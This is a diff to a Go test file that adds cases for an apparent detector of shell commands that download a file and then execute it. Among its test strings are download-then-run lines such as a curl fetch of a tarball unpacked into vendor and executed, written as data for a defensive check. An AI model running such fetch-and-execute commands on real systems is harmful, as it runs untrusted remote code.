@@ -44,6 +44,11 @@ func TestDownloadCarried(t *testing.T) {
 		{"curl -sLo /tmp/a http://x/a && cp ./tool /usr/local/bin/tool && tool", false},
 		{"curl -sLo a.json http://x/a.json && mv a.json data/ && make", false},
 		{"unzip build.zip -d out && ./out/run", false},
+		// a downloaded file moved into a folder taints that folder, not
+		// the project's own scripts
+		{"curl -sLo a.json http://x/a.json && mv a.json data/ && ./scripts/build.sh", false},
+		{"curl -sLo a.tgz http://x/a.tgz && tar xzf a.tgz -C vendor && ./vendor/a/run", true},
+		{"curl -sLo a.tgz http://x/a.tgz && tar xzf a.tgz -C vendor && ./scripts/build.sh", false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.cmd, func(t *testing.T) {
